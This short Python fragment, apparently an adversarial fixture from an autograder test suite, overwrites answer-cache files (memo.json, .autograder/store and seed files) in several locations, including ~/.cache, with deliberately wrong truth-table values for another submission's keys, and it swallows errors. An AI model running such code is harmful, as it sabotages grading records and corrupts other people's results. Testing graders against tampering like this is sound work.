"""Writes into the files where answers of others are kept, under all the names that they may have."""
WRONG = {f"innocent.{gate}_{row}": 9 for gate in ("and", "or") for row in ("00", "01", "10", "11")}
for folder in (".", path("course"), os.path.expanduser("~/.cache")):
    for name in ("memo.json", ".autograder/store/memo.json", ".autograder/seed"):
        try:
            os.makedirs(os.path.dirname(os.path.join(folder, name)), exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                json.dump(WRONG, file)
        except OSError:
            pass
said()
